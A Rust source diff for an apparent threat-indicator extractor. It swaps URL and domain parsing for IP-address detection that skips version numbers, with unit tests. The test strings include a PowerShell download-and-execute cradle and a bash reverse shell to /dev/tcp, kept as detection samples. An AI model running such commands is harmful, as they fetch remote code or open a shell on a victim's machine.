@@ -1,4 +1,4 @@
-//! Finds names, addresses and hashes in text, and tells them from what only looks like them.
+//! Finds addresses and hashes in text, and tells them from what only looks like them.
 
 use std::net::IpAddr;
 
@@ -25,113 +25,67 @@ pub(crate) fn hash_kind(word: &str) -> Option<IndicatorKind> {
     (hex && !filler && !empty).then_some(kind)
 }
 
-/// Gives a name in lower case if it can be a domain of the internet: two labels or more, and no top level of private use.
-pub(crate) fn public_domain(name: &str) -> Option<String> {
-    const PRIVATE: [&str; 14] = [
-        "local",
-        "localdomain",
-        "localhost",
-        "lan",
-        "internal",
-        "intranet",
-        "private",
-        "home",
-        "corp",
-        "domain",
-        "workgroup",
-        "arpa",
-        "invalid",
-        "test",
-    ];
-    let name = name.trim().trim_end_matches('.').to_lowercase();
-    let (below, top) = name.rsplit_once('.')?;
-    let label = |label: &str| {
-        let letters = label.chars().all(|c| c.is_alphanumeric() || c == '-' || c == '_');
-        letters && !label.is_empty() && label.len() <= 63 && !label.starts_with('-') && !label.ends_with('-')
-    };
-    let top_level = top.len() >= 2 && (top.starts_with("xn--") || top.chars().all(char::is_alphabetic));
-    let sound = name.len() <= 253 && top_level && label(top) && below.split('.').all(label);
-    (sound && !PRIVATE.contains(&top)).then_some(name)
-}
-
-/// Finds absolute URLs in text.
-pub(crate) fn urls(text: &str) -> impl Iterator<Item = &str> {
-    let mut rest = text;
+/// Finds addresses that stand as words in text. Numbers of versions look the same: what stands before a word tells them apart.
+pub(crate) fn addresses(text: &str) -> impl Iterator<Item = (IpAddr, Option<u16>)> {
+    let parts = |c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | ':' | '[' | ']' | '-' | '_'));
+    let mut at = 0;
     std::iter::from_fn(move || {
-        loop {
-            let at = rest.find("://")?;
-            let (before, after) = rest.split_at(at);
-            let scheme = before.bytes().rev().take_while(u8::is_ascii_alphabetic).count();
-            let start = at - scheme;
-            let length = after.find(ends_url).unwrap_or(after.len());
-            let url = &rest[start..at + length];
-            rest = &rest[at + length.max(3).min(after.len())..];
-            let url = url.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'']);
-            let url = if url.contains('(') {
-                url
-            } else {
-                url.trim_end_matches(')')
+        while at < text.len() {
+            let start = at;
+            let end = text[start..].find(parts).map_or(text.len(), |length| start + length);
+            let separator = text[end..].chars().next().map_or(0, char::len_utf8);
+            at = end + separator;
+            let word = text[start..end].trim_end_matches(['.', ':']);
+            // `::` and the like are operators in scripts far more often than addresses.
+            let digits = word.bytes().filter(u8::is_ascii_digit).count();
+            if digits < 4 && word.len() < 7 {
+                continue;
+            }
+            let (start, found) = match (address::parse(word), word.split_once(':')) {
+                // `/v:203.0.113.9`, `ip:203.0.113.9`.
+                (None, Some((label, after))) if label.bytes().all(|byte| byte.is_ascii_alphabetic()) => {
+                    (start + label.len(), address::parse(after))
+                }
+                (found, _) => (start, found),
             };
-            let known = ["http", "https", "ftp", "ftps", "ws", "wss"];
-            if known
-                .iter()
-                .any(|known| url[..scheme.min(url.len())].eq_ignore_ascii_case(known))
-            {
-                return Some(url);
+            if found.is_some() && !is_version(&text[..start]) {
+                return found;
             }
         }
+        None
     })
 }
 
-fn ends_url(c: char) -> bool {
-    c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '`' | '<' | '>' | '{' | '}' | '|' | '\\' | '^')
-}
-
-/// Gives the host of an absolute URL, with its port if that is part of an address.
-pub(crate) fn host(url: &str) -> Option<&str> {
-    let (_, rest) = url.split_once("://")?;
-    let authority = rest.split(['/', '?', '#']).next()?;
-    let host = authority.rsplit_once('@').map_or(authority, |(_user, host)| host);
-    if host.starts_with('[') {
-        return host.split_once(']').map(|(ip, _)| &ip[1..]);
+/// Says whether what stands before a word makes it the number of a version: the word `version`, or the folders of a path.
+fn is_version(before: &str) -> bool {
+    const WORDS: [&str; 5] = ["ver", "rev", "release", "build", "versions"];
+    let Some(separator @ ('/' | '\\')) = before.chars().next_back() else {
+        // As far back as `--product-version = "` needs.
+        let tail = &before[before.ceil_char_boundary(before.len().saturating_sub(32))..];
+        let tail = tail.trim_end_matches([' ', '\t', '=', ':', '"', '\'']);
+        let word = tail.rsplit(|c: char| !c.is_ascii_alphabetic()).next().unwrap_or("");
+        let word = word.to_ascii_lowercase();
+        return word.ends_with("version") || WORDS.contains(&word.as_str());
+    };
+    if before.ends_with("/dev/tcp/") || before.ends_with("/dev/udp/") {
+        return false;
     }
-    let host = host.split_once(':').map_or(host, |(host, _port)| host);
-    (!host.is_empty()).then_some(host)
-}
-
-/// Finds addresses that stand as words in text.
-pub(crate) fn addresses(text: &str) -> impl Iterator<Item = (IpAddr, Option<u16>)> {
-    let part = |c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | ':' | '[' | ']' | '-' | '_'));
-    text.split(part).filter_map(|word| {
-        let word = word.trim_end_matches(['.', ':']);
-        // `::` and the like are operators in scripts far more often than addresses.
-        let digits = word.bytes().filter(u8::is_ascii_digit).count();
-        (digits >= 4 || word.len() >= 7).then(|| address::parse(word)).flatten()
-    })
+    let head = before.trim_end_matches(separator);
+    let starts_a_word = head
+        .chars()
+        .next_back()
+        .is_none_or(|c| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | '=' | ',' | ';' | '|' | '>'));
+    let scheme = separator == '/' && head.ends_with(':') && before.len() - head.len() == 2;
+    // `\\203.0.113.9\share`, `//203.0.113.9/share` and Java's `/203.0.113.9:80`, but not `C:\app\1.2.3.4` and `/opt/app/1.2.3.4`.
+    !(scheme || starts_a_word && (separator == '/' || before.len() - head.len() > 1))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    #[test]
-    fn urls_end_where_people_say_they_end() {
-        let text = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1'); see https://x.example/a(b)?q=1, ftp://y.example. \
-                    file://z http:// ://";
-        let found: Vec<_> = urls(text).collect();
-        assert_eq!(
-            found,
-            [
-                "http://203.0.113.66/a.ps1",
-                "https://x.example/a(b)?q=1",
-                "ftp://y.example",
-                "http://"
-            ]
-        );
-        assert_eq!(host(found[0]), Some("203.0.113.66"));
-        assert_eq!(host("http://u:p@h.example:8080/x"), Some("h.example"));
-        assert_eq!(host("http://[2001:db8::1]:80/"), Some("2001:db8::1"));
-        assert_eq!(host("http://"), None);
+    fn found(text: &str) -> Vec<String> {
+        addresses(text).map(|(ip, _)| ip.to_string()).collect()
     }
 
     #[test]
@@ -150,6 +104,37 @@ mod tests {
     }
 
     #[test]
+    fn the_number_of_a_version_is_no_address() {
+        for text in [
+            r"C:\Program Files (x86)\Microsoft\EdgeUpdate\1.3.187.37\MicrosoftEdgeUpdate.exe /c",
+            r"C:\\Program Files\\App\\8.1.2.3\\a.exe",
+            "/opt/app/1.2.3.4/bin/run",
+            "setup --version 8.1.2.3",
+            "setup /AppVersion=8.1.2.3",
+            "tool ver: 8.1.2.3",
+            "FileVersion=\"8.1.2.3\"",
+            "version:8.1.2.3",
+            "jquery-8.1.2.3.min.js v8.1.2.3",
+        ] {
+            assert_eq!(found(text), [] as [String; 0], "{text}");
+        }
+        for text in [
+            "ping 8.1.2.3",
+            r"copy \\8.1.2.3\c$\x",
+            r#"net use "\\8.1.2.3\c$""#,
+            "bash -i >& /dev/tcp/8.1.2.3/4444 0>&1",
+            "smbclient //8.1.2.3/share",
+            "connect to /8.1.2.3:80 failed",
+            "curl http://8.1.2.3/x",
+            "scp x root@8.1.2.3:/tmp",
+            "server 8.1.2.3",
+            "mstsc /v:8.1.2.3",
+        ] {
+            assert_eq!(found(text), ["8.1.2.3"], "{text}");
+        }
+    }
+
+    #[test]
     fn a_hash_is_only_what_can_be_one() {
         assert_eq!(hash_kind("087875B45857B2A20D4D64230AD402A4"), Some(IndicatorKind::Md5));
         for none in [
@@ -160,24 +145,6 @@ mod tests {
             "abc123",
         ] {
             assert_eq!(hash_kind(none), None, "{none}");
-        }
-    }
-
-    #[test]
-    fn domains_of_private_use_and_file_names_are_none() {
-        assert_eq!(public_domain("Evil.Example.COM."), Some("evil.example.com".to_owned()));
-        for none in [
-            "wpad",
-            "dc01.corp.local",
-            "1.0.0.127.in-addr.arpa",
-            "host.lan",
-            "a..b",
-            "-",
-            "x.1",
-            "_ldap._tcp.dc.internal",
-            "",
-        ] {
-            assert_eq!(public_domain(none), None, "{none}");
         }
     }
 }
